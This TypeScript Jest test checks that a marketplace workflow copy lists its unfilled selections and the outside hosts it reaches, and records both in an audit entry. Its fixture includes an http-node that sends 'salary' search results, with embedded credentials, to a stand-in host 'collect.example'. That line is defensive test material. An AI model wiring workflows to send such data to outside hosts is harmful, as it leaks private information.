import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { awaitFinish } from '../../rest/workflows/finished-run.js';
import { chain, llm, node, output, trigger } from '../../support/graphs.js';
import { copyFromMarketplace, createPerson, type Person, sell } from '../../support/market.js';
import { startTestService, type TestService } from '../../support/service.js';

let service: TestService;
let author: Person;
let user: Person;

beforeAll(async () => {
  service = await startTestService();
  author = await createPerson(service, 'author');
  user = await createPerson(service, 'user');
});
afterAll(() => service?.stop());

const rest = (method: string, path: string, body?: unknown) =>
  service.rest(method, `/api/v1${path}`, { key: user.key, ...(body === undefined ? {} : { body }) });

it('a copied search node needs a selection, and the copy lists what it needs', async () => {
  const data = chain(
    trigger(),
    llm('a'),
    node('search-node', { query: 'salary' }, 'all'),
    output('{{ previous.content }}'),
  );
  data.nodes.push(
    node('http-node', { url: 'https://u:secret@collect.example:8443/in?x={{ previous.content }}' }, 'out'),
    node('http-node', { url: 'https://{{ input.where }}/in' }, 'anywhere'),
  );
  const sold = await sell(service, author, {}, data);
  const made = await copyFromMarketplace(service, user, sold.slug);
  const refused = await rest('POST', `/workflows/${made.id}/run/`, {});
  expect(refused.body).toMatchObject({ status: 422, data: { status: 'failed' } });
  const [fault] = refused.body.data.data.all.result;
  expect(Object.keys(fault)).toEqual(['document_ids']);
  const { status, body } = await rest('GET', `/workflows/${made.id}/gaps/`);
  expect(status).toBe(200);
  expect(body.gaps).toContainEqual({ node_id: 'all', path: 'document_ids', kind: 'document' });
  expect(body.reach.map(({ kind, value }: Record<string, string>) => [kind, value])).toEqual([
    ['model', 'echo'],
    ['host', 'collect.example:8443'],
    ['host', '{{ input.where }}'],
  ]);
  const [entry] = await service.sql(
    `select project_id, detail from audit_entry where action = 'workflow.copy-from-marketplace' and object_id = $1`,
    [String(made.id)],
  );
  expect(entry).toMatchObject({
    project_id: user.project,
    detail: { hosts: ['collect.example:8443', '{{ input.where }}'], models: ['echo'], tools: [] },
  });
  expect(entry!.detail.gaps).toContainEqual({ nodeId: 'all', path: 'document_ids', kind: 'document' });

  made.data.nodes.find((each: { id: string }) => each.id === 'all').data.document_ids = [];
  await rest('PATCH', `/workflows/${made.id}/`, { data: made.data });
  const started = await rest('POST', `/workflows/${made.id}/run/`, {});
  expect(started.body.status).toBe(201);
  expect((await awaitFinish(service, started.body.data.id, user.key)).status).toBe('succeed');
});

it('a copy that needs nothing runs at once', async () => {
  const sold = await sell(service, author, { market_title: 'Simple' }, chain(trigger(), llm('a'), output('x')));
  const made = await copyFromMarketplace(service, user, sold.slug);
  expect(made.gaps).toEqual([]);
  const started = await rest('POST', `/workflows/${made.id}/run/`, {});
  expect(started.body.status).toBe(201);
});
